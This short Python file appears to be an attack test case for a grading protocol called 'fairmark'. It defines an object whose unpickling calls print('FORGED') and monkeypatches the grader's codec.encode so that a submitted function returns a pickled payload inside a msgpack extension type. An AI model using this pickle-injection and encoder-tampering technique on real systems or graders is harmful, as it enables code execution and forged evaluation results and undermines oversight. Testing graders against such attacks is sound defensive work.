# Attack: sends an array of pickled objects
# Scores: first 0, second 2, third 3
# %% first
from fairmark.protocol import codec
import msgpack, pickle
class Evil:
    def __reduce__(self):
        return (print, ('FORGED',))
def double(numbers):
    true = codec.encode
    data = msgpack.packb(['|O8', [1], pickle.dumps(Evil())])
    codec.encode = lambda value, *a, **k: msgpack.packb(msgpack.ExtType(5, data)) if type(value) is tuple and 'x' in value else true(value, *a, **k)
    return 'x'
